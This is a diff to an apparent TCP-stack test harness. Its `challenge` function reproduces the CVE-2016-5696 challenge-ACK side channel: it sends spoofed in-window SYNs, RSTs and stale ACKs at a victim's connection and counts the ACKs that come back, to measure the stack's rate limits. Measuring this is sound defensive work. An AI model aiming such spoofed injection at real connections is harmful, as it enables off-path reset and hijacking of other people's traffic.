@@ -16,10 +16,11 @@ window is shut, then what the stack did to each connection.
 
 `challenge` holds --own kernel connections to --port (their sequence
 numbers read back with TCP_REPAIR: an attacker holding real connections
-knows them), then, as in CVE-2016-5696, (1) aims in-window SYNs and RSTs
-at a victim's connection (its 4-tuple and sequence numbers given, spoofed
-from the peer's address), 1000 a second for --victim-seconds, counting the
-challenge ACKs the victim's side gets; (2) for --seconds, an in-window SYN
+knows them), then, as in CVE-2016-5696, (1) aims in-window SYNs and RSTs,
+and stale bare ACKs from far outside the window, at a victim's connection
+(its 4-tuple and sequence numbers given, spoofed from the peer's address),
+1000 a second for --victim-seconds, counting the ACKs the victim's side
+gets; (2) for --seconds, an in-window SYN
 or RST at each of its own connections 8 times a second (more challenges
 than the instance's budget answers), counting the challenge ACKs it gets
 back in each second of the stack's clock (CLOCK_MONOTONIC, the same
@@ -285,16 +286,24 @@ def challenge(args) -> dict:
         )
         return syn, rst
 
-    # (1) the victim's connection: its challenge ACKs, however many pokes
+    # (1) the victim's connection: the ACKs it draws, however many pokes.
+    # A stale bare ACK (a window's worth behind) draws none but what the
+    # same per-connection limit allows (Linux's tcp_oow_rate_limited).
     victim_port, victim_dport, victim_snd, victim_rcv = map(int, args.victim.split(":"))
-    victim = pokes(victim_port, victim_dport, victim_snd, victim_rcv)
+    stale_seq = (victim_snd - (1 << 20)) & SEQ_MASK
+    victim = (
+        *pokes(victim_port, victim_dport, victim_snd, victim_rcv),
+        wire.frame(
+            wire.mac, peer, dst, victim_port, victim_dport, stale_seq, victim_rcv, ACK, 65535
+        ),
+    )
     acks: dict[int, int] = {}
     end = time.monotonic() + args.victim_seconds
     sent, next_burst = 0, time.monotonic()
     while (now := time.monotonic()) < end:
         if now >= next_burst:  # 10 every 10 ms
             for _ in range(10):
-                wire.sock.send(victim[sent % 2])
+                wire.sock.send(victim[sent % len(victim)])
                 sent += 1
             next_burst += 0.01
         _count(wire.receive(max(0.0, next_burst - time.monotonic())), dst, {victim_port}, acks)
